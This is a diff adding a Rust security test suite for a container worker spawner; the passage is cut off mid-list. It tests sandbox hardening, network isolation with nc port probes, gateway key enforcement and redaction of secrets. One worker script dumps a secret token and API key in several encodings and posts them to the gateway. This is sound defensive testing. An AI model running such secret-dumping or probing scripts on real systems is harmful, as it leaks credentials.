@@ -1,0 +1,1313 @@
+//! Security end to end (docs/security.md): the hardened settings of a real
+//! container, network isolation of the workers, gateway enforcement,
+//! redaction of secrets, hostile requests, and bounded property tests over
+//! spawn payloads.
+//!
+//! Real `workers-spawner serve` child processes, the private redis-server and
+//! the real Docker engine (scripts/test-env.sh). Network probes go ONLY to
+//! this machine's own addresses, its containers and its Docker networks.
+
+mod common;
+
+use std::collections::HashMap;
+use std::io::{Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+use std::time::{Duration, Instant};
+
+use bollard::models::{ContainerCreateBody, ContainerInspectResponse, HostConfig};
+use bollard::query_parameters::{
+    CreateContainerOptions, InspectContainerOptions, ListContainersOptions,
+};
+use common::*;
+use proptest::prelude::*;
+use serde_json::{json, Value};
+
+use workers_spawner::catalog::Catalog;
+use workers_spawner::config::ConfigSchema;
+use workers_spawner::image_ref;
+use workers_spawner::loader::{self, CatalogDirs};
+use workers_spawner::protocol::{parse_spawn_request, InputLimits};
+use workers_spawner::settings::Settings;
+use workers_spawner::spec::Resolver;
+
+const RESULT_TIMEOUT: Duration = Duration::from_secs(90);
+const MASK: &str = "[REDACTED]";
+
+// ---------------------------------------------------------------- helpers
+
+/// `shell_v1` with `patch` merged in (top level), as preset `id`.
+fn shell_variant(id: &str, patch: Value) -> Value {
+    let mut v: Value = serde_json::from_str(
+        &std::fs::read_to_string(fixture_presets().join("shell_v1.json")).unwrap(),
+    )
+    .unwrap();
+    v["id"] = json!(id);
+    for (k, val) in patch.as_object().unwrap() {
+        v[k] = val.clone();
+    }
+    v
+}
+
+/// Presets of these tests next to the fixture presets.
+fn security_presets() -> tempfile::TempDir {
+    presets_dir_with(&[
+        (
+            "ro_v1",
+            shell_variant("ro_v1", json!({"security": {"read_only_root": true}})),
+        ),
+        (
+            "net_v1",
+            shell_variant("net_v1", json!({"has_internet": true})),
+        ),
+        (
+            "caps_v1",
+            shell_variant("caps_v1", json!({"security": {"cap_add": ["NET_RAW"]}})),
+        ),
+        (
+            "caps_admin_v1",
+            shell_variant(
+                "caps_admin_v1",
+                json!({"security": {"cap_add": ["SYS_ADMIN"]}}),
+            ),
+        ),
+    ])
+}
+
+fn shell_request(rid: &str, preset: &str, script: &str) -> Value {
+    json!({
+        "request_id": rid,
+        "worker_config_id": preset,
+        "task": { "prompt": script, "user_id": "test-user" },
+    })
+}
+
+/// Waits until an event of `rid` satisfies `pred`; returns the events so far.
+async fn wait_event_where(
+    prefix: &str,
+    rid: &str,
+    timeout: Duration,
+    pred: impl Fn(&Value) -> bool,
+) -> Vec<Value> {
+    let deadline = Instant::now() + timeout;
+    loop {
+        let ev = events_for(prefix, rid).await;
+        if ev.iter().any(&pred) {
+            return ev;
+        }
+        if Instant::now() > deadline {
+            panic!(
+                "no matching event for {rid} within {timeout:?}; events: {:#?}",
+                ev
+            );
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+}
+
+/// Waits for an output line of `rid` containing `needle`.
+async fn wait_output(prefix: &str, rid: &str, needle: &str) -> Vec<String> {
+    let ev = wait_event_where(prefix, rid, RESULT_TIMEOUT, |e| {
+        e["type"] == "output"
+            && e["data"]["text"]
+                .as_str()
+                .is_some_and(|t| t.contains(needle))
+    })
+    .await;
+    output_lines(&ev, "stdout")
+}
+
+/// The running container of request `rid`, inspected.
+async fn inspect_worker(prefix: &str, rid: &str) -> ContainerInspectResponse {
+    let d = docker().await;
+    let deadline = Instant::now() + RESULT_TIMEOUT;
+    loop {
+        let mut filters = HashMap::new();
+        filters.insert(
+            "label".to_string(),
+            vec![
+                format!("{PREFIX_LABEL}={prefix}"),
+                format!("io.workers-spawner.request-id={rid}"),
+            ],
+        );
+        let list = d
+            .list_containers(Some(ListContainersOptions {
+                all: true,
+                filters: Some(filters),
+                ..Default::default()
+            }))
+            .await
+            .unwrap();
+        if let Some(id) = list.first().and_then(|c| c.id.clone()) {
+            if let Ok(c) = d
+                .inspect_container(&id, None::<InspectContainerOptions>)
+                .await
+            {
+                if c.state.as_ref().and_then(|s| s.running) == Some(true) {
+                    return c;
+                }
+            }
+        }
+        assert!(
+            Instant::now() < deadline,
+            "no running container for {rid} within {RESULT_TIMEOUT:?}; result: {:?}",
+            results_for(prefix, rid).await
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+}
+
+fn env_of(c: &ContainerInspectResponse) -> Vec<String> {
+    c.config
+        .as_ref()
+        .and_then(|c| c.env.clone())
+        .unwrap_or_default()
+}
+
+fn env_value(c: &ContainerInspectResponse, key: &str) -> String {
+    env_of(c)
+        .iter()
+        .find_map(|e| e.strip_prefix(&format!("{key}=")).map(str::to_string))
+        .unwrap_or_else(|| panic!("no {key} in the container's env"))
+}
+
+/// Cancels `rid` and waits for its result.
+async fn cancel(prefix: &str, rid: &str) -> Value {
+    publish_control(prefix, &json!({"command": "cancel", "request_id": rid})).await;
+    wait_result(prefix, rid, RESULT_TIMEOUT).await
+}
+
+/// A minimal HTTP/1.0 POST: (status, body as JSON or Null).
+fn http_post(url: &str, auth: Option<&str>, body: &str) -> (u16, Value) {
+    let rest = url.strip_prefix("http://").expect("http URL");
+    let (addr, path) = rest
+        .split_once('/')
+        .map_or((rest, "/".to_string()), |(a, p)| (a, format!("/{p}")));
+    let mut s = TcpStream::connect_timeout(&addr.parse().expect("ip:port"), Duration::from_secs(5))
+        .unwrap_or_else(|e| panic!("cannot connect to {addr}: {e}"));
+    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    let auth = auth
+        .map(|k| format!("Authorization: Bearer {k}\r\n"))
+        .unwrap_or_default();
+    write!(
+        s,
+        "POST {path} HTTP/1.0\r\nHost: {addr}\r\n{auth}Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+        body.len()
+    )
+    .unwrap();
+    let mut buf = String::new();
+    s.read_to_string(&mut buf).unwrap();
+    let status = buf
+        .split_whitespace()
+        .nth(1)
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(0);
+    let body = buf.split_once("\r\n\r\n").map(|x| x.1).unwrap_or("");
+    (status, serde_json::from_str(body).unwrap_or(Value::Null))
+}
+
+// ---------------------------------------------------------------- hardened defaults
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_running_worker_has_every_hardened_setting() {
+    let d = Daemon::start(DaemonOpts::new("sec-hardened"));
+    let rid = unique_request_id("hard");
+    let script = "echo uid=$(id -u) gid=$(id -g); grep -E '^(CapEff|CapPrm|NoNewPrivs)' /proc/self/status; \
+                  test -e /var/run/docker.sock && echo sock=present || echo sock=absent; echo probe-done; sleep 30";
+    publish_spawn(&d.prefix, &shell_request(&rid, "shell_v1", script)).await;
+    let c = inspect_worker(&d.prefix, &rid).await;
+    let hc = c.host_config.clone().expect("host config");
+    let cfg = c.config.clone().expect("config");
+
+    assert_eq!(hc.cap_drop.as_deref(), Some(&["ALL".to_string()][..]));
+    assert!(
+        hc.cap_add.clone().unwrap_or_default().is_empty(),
+        "{:?}",
+        hc.cap_add
+    );
+    let sec = hc.security_opt.clone().unwrap_or_default();
+    assert!(
+        sec.iter().any(|o| o.starts_with("no-new-privileges")),
+        "{sec:?}"
+    );
+    assert!(
+        !sec.iter().any(|o| o.contains("unconfined")),
+        "no profile may be switched off: {sec:?}"
+    );
+    assert_eq!(cfg.user.as_deref(), Some("1000:1000"));
+    assert_eq!(hc.init, Some(true));
+    assert_eq!(hc.pids_limit, Some(64));
+    assert_eq!(hc.memory, Some(64 << 20));
+    assert_eq!(hc.memory_swap, Some(64 << 20), "swap equals memory");
+    assert_eq!(hc.nano_cpus, Some(1_000_000_000));
+    assert_eq!(hc.privileged, Some(false));
+    let net = hc.network_mode.clone().unwrap_or_default();
+    assert_eq!(net, "ws-workers-internal");
+    for (what, mode) in [
+        ("pid", hc.pid_mode.clone()),
+        ("ipc", hc.ipc_mode.clone()),
+        ("uts", hc.uts_mode.clone()),
+        ("userns", hc.userns_mode.clone()),
+    ] {
+        assert_ne!(
+            mode.as_deref(),
+            Some("host"),
+            "{what} namespace is the host's"
+        );
+    }
+    assert_eq!(hc.ipc_mode.as_deref(), Some("private"));
+    assert!(
+        hc.binds.clone().unwrap_or_default().is_empty(),
+        "{:?}",
+        hc.binds
+    );
+    assert!(
+        hc.mounts.clone().unwrap_or_default().is_empty(),
+        "{:?}",
+        hc.mounts
+    );
+    assert!(
+        c.mounts.clone().unwrap_or_default().is_empty(),
+        "{:?}",
+        c.mounts
+    );
+    assert!(hc.devices.clone().unwrap_or_default().is_empty());
+    assert_eq!(hc.readonly_rootfs, Some(false));
+    let env = env_of(&c);
+    for e in &env {
+        assert!(
+            !e.contains("redis://")
+                && !e.contains("WS_TEST_REDIS")
+                && !e.starts_with("WORKERS_SPAWNER"),
+            "infrastructure setting in the worker's env: {e}"
+        );
+    }
+    assert!(!env.iter().any(|e| e.contains(&redis_url())));
+
+    // The same, seen from inside.
+    let lines = wait_output(&d.prefix, &rid, "probe-done").await;
+    assert!(
+        lines.contains(&"uid=1000 gid=1000".to_string()),
+        "{lines:?}"
+    );
+    let field = |k: &str| {
+        lines
+            .iter()
+            .find_map(|l| l.strip_prefix(k))
+            .map(|v| v.trim().to_string())
+            .unwrap_or_else(|| panic!("no {k} in {lines:?}"))
+    };
+    assert_eq!(field("CapEff:"), "0000000000000000");
+    assert_eq!(field("CapPrm:"), "0000000000000000");
+    assert_eq!(field("NoNewPrivs:"), "1");
+    assert!(lines.contains(&"sock=absent".to_string()), "{lines:?}");
+    let r = cancel(&d.prefix, &rid).await;
+    assert_eq!(r["status"], "cancelled", "{r:#}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_read_only_root_keeps_workspace_home_and_tmp_writable() {
+    let presets = security_presets();
+    let d = Daemon::start(DaemonOpts::new("sec-readonly").presets_dir(presets.path()));
+    let rid = unique_request_id("ro");
+    let script = "echo w > /workspace/a && echo h > /home/worker/b && echo t > /tmp/c && echo writable-ok; \
+                  if touch /etc/nope 2>/dev/null; then echo root-writable; else echo root-readonly; fi; \
+                  test -s /home/worker/.orchestrator/prompt.md && echo files-ok; echo probe-done; sleep 30";
+    publish_spawn(&d.prefix, &shell_request(&rid, "ro_v1", script)).await;
+    let c = inspect_worker(&d.prefix, &rid).await;
+    let hc = c.host_config.clone().unwrap();
+    assert_eq!(hc.readonly_rootfs, Some(true));
+    assert!(
+        hc.tmpfs.clone().unwrap_or_default().contains_key("/tmp"),
+        "{:?}",
+        hc.tmpfs
+    );
+    assert!(hc.binds.clone().unwrap_or_default().is_empty());
+    let mounts = c.mounts.clone().unwrap_or_default();
+    let mut volumes = Vec::new();
+    for m in &mounts {
+        let dest = m.destination.clone().unwrap_or_default();
+        assert_eq!(
+            m.typ.as_ref().map(|t| t.to_string()).as_deref(),
+            Some("volume"),
+            "only anonymous volumes: {m:?}"
+        );
+        assert!(
+            ["/workspace", "/home/worker"].contains(&dest.as_str()),
+            "{m:?}"
+        );
+        assert!(!m.source.clone().unwrap_or_default().contains("docker.sock"));
+        volumes.push(m.name.clone().unwrap());
+    }
+    assert_eq!(volumes.len(), 2, "{mounts:?}");
+    assert_eq!(hc.cap_drop.as_deref(), Some(&["ALL".to_string()][..]));
+
+    let lines = wait_output(&d.prefix, &rid, "probe-done").await;
+    for want in ["writable-ok", "root-readonly", "files-ok"] {
+        assert!(lines.contains(&want.to_string()), "{want}: {lines:?}");
+    }
+    let r = cancel(&d.prefix, &rid).await;
+    assert_eq!(r["status"], "cancelled", "{r:#}");
+    // Removing the container removes its volumes.
+    let docker = docker().await;
+    let deadline = Instant::now() + Duration::from_secs(20);
+    for v in &volumes {
+        while docker.inspect_volume(v).await.is_ok() {
+            assert!(
+                Instant::now() < deadline,
+                "volume {v} outlived its container"
+            );
+            tokio::time::sleep(Duration::from_millis(200)).await;
+        }
+    }
+
+    // A session under a read-only root gets its files too.
+    let srid = unique_request_id("ro-sess");
+    publish_spawn(
+        &d.prefix,
+        &json!({
+            "request_id": srid, "worker_config_id": "ro_v1",
+            "task": {"prompt": "cat /home/worker/.orchestrator/prompt.md; echo >> /workspace/x", "session_id": unique_request_id("s")},
+        }),
+    )
+    .await;
+    let r = wait_result(&d.prefix, &srid, RESULT_TIMEOUT).await;
+    assert_eq!(r["status"], "succeeded", "{r:#}");
+    assert!(
+        r["output"].as_str().unwrap().contains("cat /home/worker"),
+        "{r:#}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_preset_may_add_back_only_capabilities_the_daemon_allows() {
+    let presets = security_presets();
+    let d = Daemon::start(
+        DaemonOpts::new("sec-caps")
+            .presets_dir(presets.path())
+            .setting("policy__allowed_cap_add", "[\"NET_RAW\"]"),
+    );
+    // Beyond the setting: refused, naming the field.
+    let denied = unique_request_id("caps-denied");
+    publish_spawn(&d.prefix, &shell_request(&denied, "caps_admin_v1", "true")).await;
+    let r = wait_result(&d.prefix, &denied, RESULT_TIMEOUT).await;
+    assert_eq!(r["status"], "rejected", "{r:#}");
+    assert_eq!(r["error"]["field"], "security.cap_add", "{r:#}");
+    assert_eq!(container_count(&d.prefix).await, 0);
+
+    // Within it: exactly that capability comes back, all others stay dropped.
+    let rid = unique_request_id("caps");
+    publish_spawn(&d.prefix, &shell_request(&rid, "caps_v1", "sleep 30")).await;
+    let c = inspect_worker(&d.prefix, &rid).await;
+    let hc = c.host_config.unwrap();
+    assert_eq!(hc.cap_drop.as_deref(), Some(&["ALL".to_string()][..]));
+    assert_eq!(hc.cap_add.as_deref(), Some(&["NET_RAW".to_string()][..]));
+    assert_eq!(hc.privileged, Some(false));
+    let r = cancel(&d.prefix, &rid).await;
+    assert_eq!(r["status"], "cancelled", "{r:#}");
+
+    // An override may not add one either, even one the daemon allows.
+    let widen = unique_request_id("caps-widen");
+    let mut req = shell_request(&widen, "shell_v1", "true");
+    req["worker_config_override"] = json!({"security": {"cap_add": ["NET_RAW"]}});
+    publish_spawn(&d.prefix, &req).await;
+    let r = wait_result(&d.prefix, &widen, RESULT_TIMEOUT).await;
+    assert_eq!(r["status"], "rejected", "{r:#}");
+    assert_eq!(r["error"]["field"], "security.cap_add", "{r:#}");
+}
+
+// ---------------------------------------------------------------- network
+
+/// IPv4 addresses of this host's interfaces, loopback excluded.
+fn host_addresses() -> Vec<String> {
+    let out = std::process::Command::new("ip")
+        .args(["-4", "-o", "addr"])
+        .output()
+        .expect("run `ip -4 -o addr`");
+    let text = String::from_utf8_lossy(&out.stdout);
+    let mut ips: Vec<String> = text
+        .lines()
+        .filter_map(|l| {
+            let mut it = l.split_whitespace();
+            it.find(|w| *w == "inet")?;
+            Some(it.next()?.split('/').next()?.to_string())
+        })
+        .filter(|ip| !ip.starts_with("127."))
+        .collect();
+    ips.sort();
+    ips.dedup();
+    assert!(!ips.is_empty(), "no host address found:\n{text}");
+    ips
+}
+
+/// Ports some firewall rule accepts (left over by other daemons).
+fn accepted_ports() -> Vec<u16> {
+    let out = std::process::Command::new("iptables")
+        .args(["-w", "-S", "WS-WORKERS"])
+        .output();
+    let Ok(out) = out else { return Vec::new() };
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter_map(|l| {
+            let mut it = l.split_whitespace();
+            it.find(|w| *w == "--dport")?;
+            it.next()?.parse().ok()
+        })
+        .collect()
+}
+
+/// A listener on every interface that accepts and closes connections.
+fn host_listener() -> u16 {
+    let taken = accepted_ports();
+    let l = loop {
+        let l = TcpListener::bind("0.0.0.0:0").expect("bind 0.0.0.0:0");
+        if !taken.contains(&l.local_addr().unwrap().port()) {
+            break l;
+        }
+    };
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for s in l.incoming() {
+            drop(s);
+        }
+    });
+    port
+}
+
+/// A container on Docker's default bridge listening on 8080 (another
+/// network than the workers'); returns its address.
+async fn default_bridge_listener(prefix: &str) -> String {
+    let d = docker().await;
+    let name = format!("{prefix}-bridge-probe");
+    let mut labels = HashMap::new();
+    labels.insert(PREFIX_LABEL.to_string(), prefix.to_string());
+    let body = ContainerCreateBody {
+        image: Some(test_image()),
+        cmd: Some(vec![
+            "sh".into(),
+            "-c".into(),
+            "while :; do nc -l -p 8080 -e true; done".into(),
+        ]),
+        user: Some("1000:1000".into()),
+        labels: Some(labels),
+        host_config: Some(HostConfig {
+            network_mode: Some("bridge".into()),
+            cap_drop: Some(vec!["ALL".into()]),
+            init: Some(true),
+            ..Default::default()
+        }),
+        ..Default::default()
+    };
+    let id = d
+        .create_container(
+            Some(CreateContainerOptions {
+                name: Some(name),
+                ..Default::default()
+            }),
+            body,
+        )
+        .await
+        .expect("create the probe container")
+        .id;
+    d.start_container(
+        &id,
+        None::<bollard::query_parameters::StartContainerOptions>,
+    )
+    .await
+    .expect("start the probe container");
+    let c = d
+        .inspect_container(&id, None::<InspectContainerOptions>)
+        .await
+        .unwrap();
+    let ip = c
+        .network_settings
+        .and_then(|n| n.networks)
+        .and_then(|n| n.get("bridge").and_then(|b| b.ip_address.clone()))
+        .filter(|ip| !ip.is_empty())
+        .expect("the probe has an address on the default bridge");
+    // Positive control: the host reaches it, so "closed" from a worker means isolation.
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while TcpStream::connect_timeout(
+        &format!("{ip}:8080").parse().unwrap(),
+        Duration::from_secs(1),
+    )
+    .is_err()
+    {
+        assert!(
+            Instant::now() < deadline,
+            "the probe on {ip}:8080 never listened"
+        );
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    ip
+}
+
+fn redis_port() -> u16 {
+    let url = redis_url();
+    let hostport = url
+        .trim_start_matches("redis://")
+        .split('/')
+        .next()
+        .unwrap()
+        .rsplit('@')
+        .next()
+        .unwrap()
+        .to_string();
+    hostport.rsplit(':').next().unwrap().parse().unwrap()
+}
+
+/// The probe script: every target as `open T` or `closed T`, then the gateway.
+fn probe_script(targets: &[String]) -> String {
+    let mut s = String::new();
+    for t in targets {
+        let (ip, port) = t.rsplit_once(':').unwrap();
+        s.push_str(&format!(
+            "if echo | nc -w 2 {ip} {port} >/dev/null 2>&1; then echo \"open {t}\"; else echo \"closed {t}\"; fi\n"
+        ));
+    }
+    s.push_str(
+        "echo \"gateway=$(wget -qO- --post-data '{\"args\":{\"message\":\"hi from the probe\"}}' \
+         --header \"Authorization: Bearer $ORCHESTRATOR_API_KEY\" \"$ORCHESTRATOR_API_URL/v1/tools/respond/send\")\"\n",
+    );
+    s
+}
+
+async fn probe(d: &Daemon, preset: &str, targets: &[String]) -> (Value, Vec<String>) {
+    let rid = unique_request_id(&format!("probe-{preset}"));
+    publish_spawn(
+        &d.prefix,
+        &shell_request(&rid, preset, &probe_script(targets)),
+    )
+    .await;
+    // Up to 2 s per blocked target, on a shared and busy machine.
+    let r = wait_result(&d.prefix, &rid, Duration::from_secs(180)).await;
+    assert_eq!(r["status"], "succeeded", "{r:#}");
+    let lines: Vec<String> = r["output"]
+        .as_str()
+        .unwrap()
+        .lines()
+        .map(str::to_string)
+        .collect();
+    (r, lines)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn workers_reach_the_gateway_but_not_the_host_redis_or_other_networks() {
+    let presets = security_presets();
+    let d = Daemon::start(DaemonOpts::new("sec-net").presets_dir(presets.path()));
+    let port = host_listener();
+    let rport = redis_port();
+    let mut targets = Vec::new();
+    for ip in host_addresses() {
+        // Positive control: the listener answers on this address from the host.
+        TcpStream::connect_timeout(
+            &format!("{ip}:{port}").parse().unwrap(),
+            Duration::from_secs(2),
+        )
+        .unwrap_or_else(|e| panic!("the test listener is not reachable on {ip}:{port}: {e}"));
+        targets.push(format!("{ip}:{port}"));
+        targets.push(format!("{ip}:{rport}"));
+    }
+    let other = default_bridge_listener(&d.prefix).await;
+    targets.push(format!("{other}:8080"));
+
+    for preset in ["shell_v1", "net_v1"] {
+        let (r, lines) = probe(&d, preset, &targets).await;
+        for t in &targets {
+            assert!(
+                lines.contains(&format!("closed {t}")),
+                "{preset} (has_internet={}) reached {t}: {lines:#?}",
+                preset == "net_v1"
+            );
+        }
+        let gw = lines
+            .iter()
+            .find_map(|l| l.strip_prefix("gateway="))
+            .unwrap_or_default();
+        let gw: Value = serde_json::from_str(gw)
+            .unwrap_or_else(|_| panic!("{preset} did not reach its gateway: {lines:#?}"));
+        assert_eq!(gw["ok"], true, "{gw}");
+        let rid = r["request_id"].as_str().unwrap();
+        let ev = events_for(&d.prefix, rid).await;
+        let respond: Vec<&Value> = ev.iter().filter(|e| e["type"] == "respond").collect();
+        assert_eq!(respond.len(), 1, "{ev:#?}");
+        assert_eq!(respond[0]["data"]["message"], "hi from the probe");
+        assert_eq!(respond[0]["request_id"], rid);
+    }
+}
+
+// ---------------------------------------------------------------- gateway
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_gateway_enforces_allowed_tools_and_worker_keys() {
+    let d = Daemon::start(DaemonOpts::new("sec-gateway"));
+    let rid = unique_request_id("gw");
+    // shell_v1 allows project, deploy and respond: not infra.
+    let script = "wget -qO- --post-data '{\"args\":{}}' --header \"Authorization: Bearer $ORCHESTRATOR_API_KEY\" \
+                  \"$ORCHESTRATOR_API_URL/v1/tools/infra/list\" 2>&1; echo \"infra-exit=$?\"; \
+                  wget -qO- --post-data '{\"args\":{}}' --header \"Authorization: Bearer wsk_not_a_key\" \
+                  \"$ORCHESTRATOR_API_URL/v1/tools/respond/send\" 2>&1; echo \"badkey-exit=$?\"; \
+                  echo probe-done; sleep 60";
+    publish_spawn(&d.prefix, &shell_request(&rid, "shell_v1", script)).await;
+    let c = inspect_worker(&d.prefix, &rid).await;
+    let key = env_value(&c, "ORCHESTRATOR_API_KEY");
+    let url = env_value(&c, "ORCHESTRATOR_API_URL");
+    assert!(key.starts_with("wsk_"), "{key}");
+
+    // From inside: refused with 403 (not allowed) and 401 (wrong key).
+    let lines = wait_output(&d.prefix, &rid, "probe-done").await;
+    let all = lines.join("\n");
+    assert!(all.contains("403"), "{all}");
+    assert!(all.contains("401"), "{all}");
+    assert!(
+        !all.contains("infra-exit=0") && !all.contains("badkey-exit=0"),
+        "{all}"
+    );
+
+    // The same calls with bodies, from the host, with the worker's key.
+    let (st, body) = http_post(
+        &format!("{url}/v1/tools/infra/list"),
+        Some(&key),
+        "{\"args\":{}}",
+    );
+    assert_eq!(st, 403, "{body}");
+    assert_eq!(body["error"]["code"], "permission_denied", "{body}");
+    let (st, body) = http_post(&format!("{url}/v1/tools/admin/nuke"), Some(&key), "{}");
+    assert!(st == 403 || st == 404, "{st} {body}");
+    let (st, body) = http_post(
+        &format!("{url}/v1/tools/respond/send"),
+        Some("wsk_0000"),
+        "{\"args\":{\"message\":\"x\"}}",
+    );
+    assert_eq!(st, 401, "{body}");
+    assert_eq!(body["error"]["code"], "unauthorized");
+    let (st, body) = http_post(&format!("{url}/v1/tools/respond/send"), None, "{}");
+    assert_eq!(st, 401, "{body}");
+    let (st, body) = http_post(
+        &format!("{url}/v1/tools/respond/send"),
+        Some(&key),
+        "{\"args\":{\"message\":\"hello from the key holder\"}}",
+    );
+    assert_eq!(st, 200, "{body}");
+    assert_eq!(body["ok"], true);
+    let ev = wait_event_where(&d.prefix, &rid, Duration::from_secs(10), |e| {
+        e["type"] == "respond"
+    })
+    .await;
+    let respond = ev.iter().find(|e| e["type"] == "respond").unwrap();
+    assert_eq!(respond["request_id"], rid.as_str());
+    assert_eq!(respond["data"]["message"], "hello from the key holder");
+    assert_eq!(respond["data"]["user_id"], "test-user");
+
+    // Once the worker has ended, its key is worthless.
+    let r = cancel(&d.prefix, &rid).await;
+    assert_eq!(r["status"], "cancelled", "{r:#}");
+    let (st, body) = http_post(
+        &format!("{url}/v1/tools/respond/send"),
+        Some(&key),
+        "{\"args\":{\"message\":\"too late\"}}",
+    );
+    assert_eq!(st, 401, "{body}");
+    let late = events_for(&d.prefix, &rid).await;
+    assert!(
+        !late.iter().any(|e| e["data"]["message"] == "too late"),
+        "{late:#?}"
+    );
+}
+
+// ---------------------------------------------------------------- secrets
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn secrets_echoed_by_a_worker_in_any_common_encoding_are_masked_everywhere() {
+    use base64::Engine as _;
+    let secret = format!("s3cr3t-Val.ue/with space&more=42_x~{}", random_suffix());
+    let d = Daemon::start(DaemonOpts::new("sec-secrets").env("WS_TEST_SECRET", &secret));
+    let rid = unique_request_id("leak");
+    let script = r#"S="$SECRET_TOKEN"; K="$ORCHESTRATOR_API_KEY"
+echo "plain:$S"
+echo "err:$S" >&2
+echo "b64:$(printf %s "$S" | base64)"
+echo "b64-offset1:$(printf 'x%s' "$S" | base64)"
+echo "b64-offset2:$(printf 'xy%s' "$S" | base64)"
+echo "hex:$(printf %s "$S" | od -An -tx1 | tr -d ' \n')"
+echo "url:$(printf %s "$S" | sed -e 's/%/%25/g' -e 's/ /%20/g' -e 's#/#%2F#g' -e 's/&/%26/g' -e 's/=/%3D/g')"
+echo "url-lower:$(printf %s "$S" | sed -e 's/%/%25/g' -e 's/ /%20/g' -e 's#/#%2f#g' -e 's/&/%26/g' -e 's/=/%3d/g')"
+echo "form:$(printf %s "$S" | sed -e 's/%/%25/g' -e 's/ /+/g' -e 's#/#%2F#g' -e 's/&/%26/g' -e 's/=/%3D/g')"
+echo "key:$K"
+echo "key-b64:$(printf %s "$K" | base64)"
+wget -qO- --post-data "{\"args\":{\"message\":\"respond:$S key:$K\"}}" --header "Authorization: Bearer $K" "$ORCHESTRATOR_API_URL/v1/tools/respond/send" >/dev/null
+echo done"#;
+    publish_spawn(&d.prefix, &shell_request(&rid, "shell_v1", script)).await;
+    let c = inspect_worker(&d.prefix, &rid).await;
+    let key = env_value(&c, "ORCHESTRATOR_API_KEY");
+    let r = wait_result(&d.prefix, &rid, RESULT_TIMEOUT).await;
+    assert_eq!(r["status"], "succeeded", "{r:#}");
+
+    // A poison entry carrying the secret (no usable request id).
+    publish_raw(
+        &d.prefix,
+        json!({"task": {"prompt": format!("leaked {secret}")}})
+            .to_string()
+            .as_bytes(),
+    )
+    .await;
+    wait_dead_letter(&d.prefix, Duration::from_secs(30), |v| {
+        v["reason"]
+            .as_str()
+            .is_some_and(|r| r.contains("request_id"))
+    })
+    .await;
+
+    let b64 = base64::engine::general_purpose::STANDARD;
+    let pct = |s: &str, space: &str, lower: bool| {
+        let mut o = String::new();
+        for ch in s.chars() {
+            match ch {
+                'A'..='Z' | 'a'..='z' | '0'..='9' | '-' | '.' | '_' | '~' => o.push(ch),
+                ' ' if space == "+" => o.push('+'),
+                _ => {
+                    let h = format!("%{:02X}", ch as u32);
+                    o.push_str(&if lower { h.to_lowercase() } else { h });
+                }
+            }
+        }
+        o
+    };
+    let forbidden = [
+        secret.clone(),
+        b64.encode(&secret),
+        b64.encode(format!("x{secret}")),
+        b64.encode(format!("xy{secret}")),
+        hex::encode(&secret),
+        pct(&secret, "%20", false),
+        pct(&secret, "%20", true),
+        pct(&secret, "+", false),
+        key.clone(),
+        b64.encode(&key),
+    ];
+    let events = stream_json(&streams(&d.prefix).events).await;
+    let results = all_results(&d.prefix).await;
+    let dead = dead_letters(&d.prefix).await;
+    let everything = format!(
+        "{}\n{}\n{}\n{}",
+        serde_json::to_string(&events).unwrap(),
+        serde_json::to_string(&results).unwrap(),
+        serde_json::to_string(&dead).unwrap(),
+        d.stderr()
+    );
+    for f in &forbidden {
+        assert!(
+            !everything.contains(f.as_str()),
+            "{f:?} leaked; output: {:#?}",
+            output_lines(&events, "stdout")
+        );
+    }
+    // Every echo line is there, masked.
+    let out = r["output"].as_str().unwrap();
+    for tag in [
+        "plain:",
+        "b64:",
+        "b64-offset1:",
+        "b64-offset2:",
+        "hex:",
+        "url:",
+        "url-lower:",
+        "form:",
+        "key:",
+        "key-b64:",
+    ] {
+        let line = out
+            .lines()
+            .find(|l| l.starts_with(tag))
+            .unwrap_or_else(|| panic!("no {tag} line in {out}"));
+        assert!(line.contains(MASK), "{line}");
+    }
+    let ev = events_for(&d.prefix, &rid).await;
+    let stderr = output_lines(&ev, "stderr");
+    assert!(
+        stderr.iter().any(|l| l == &format!("err:{MASK}")),
+        "{stderr:?}"
+    );
+    let respond = ev
+        .iter()
+        .find(|e| e["type"] == "respond")
+        .expect("respond event");
+    assert_eq!(
+        respond["data"]["message"],
+        format!("respond:{MASK} key:{MASK}").as_str()
+    );
+}
+
+// ---------------------------------------------------------------- hostile input
+
+/// Hostile requests (docs/security.md): each gets a typed rejection naming
+/// the field, creates no container, and the daemon keeps serving.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_requests_get_typed_answers_and_change_nothing() {
+    let presets = security_presets();
+    let d = Daemon::start(DaemonOpts::new("sec-hostile").presets_dir(presets.path()));
+    let big = "x".repeat(300 * 1024);
+    let mut deep = json!({});
+    for _ in 0..20 {
+        deep = json!({ "env": deep });
+    }
+    let many_env: serde_json::Map<String, Value> = (0..2000)
+        .map(|i| (format!("K{i}"), json!("v".repeat(30))))
+        .collect();
+    // (label, preset, override, prompt, expected field)
+    let cases: Vec<(&str, &str, Value, &str, &str)> = vec![
+        (
+            "cap_add",
+            "shell_v1",
+            json!({"security": {"cap_add": ["SYS_ADMIN"]}}),
+            "x",
+            "security.cap_add",
+        ),
+        (
+            "read_only_root off",
+            "ro_v1",
+            json!({"security": {"read_only_root": false}}),
+            "x",
+            "security.read_only_root",
+        ),
+        (
+            "internet on",
+            "shell_v1",
+            json!({"has_internet": true}),
+            "x",
+            "has_internet",
+        ),
+        (
+            "memory up",
+            "shell_v1",
+            json!({"limits": {"memory": "64g"}}),
+            "x",
+            "limits.memory",
+        ),
+        (
